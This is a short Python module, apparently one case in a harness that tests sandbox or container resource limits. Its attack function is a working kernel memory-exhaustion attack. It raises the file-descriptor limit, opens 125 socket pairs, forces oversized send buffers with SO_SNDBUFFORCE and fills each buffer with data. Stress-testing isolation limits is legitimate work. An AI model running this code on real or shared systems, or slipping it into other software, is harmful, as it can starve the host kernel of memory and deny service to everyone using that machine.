"""Fills the buffers of pairs of sockets, which is memory of the kernel's as well."""

import contextlib
import resource
import socket
import time

CONTROL = "inside"
PATIENCE = 8


def attack(A):
    with contextlib.suppress(OSError, ValueError):
        hard = max(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 4096)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    block, pairs = (1 << 16) * b"A", []
    for _ in range(125):
        pairs += socket.socketpair()
        for one in pairs[-2:]:
            one.setblocking(False)
            one.setsockopt(socket.SOL_SOCKET, 32, 3 << 20)  # SO_SNDBUFFORCE
            with contextlib.suppress(BlockingIOError):
                while True:
                    one.send(block)
    time.sleep(0.1)
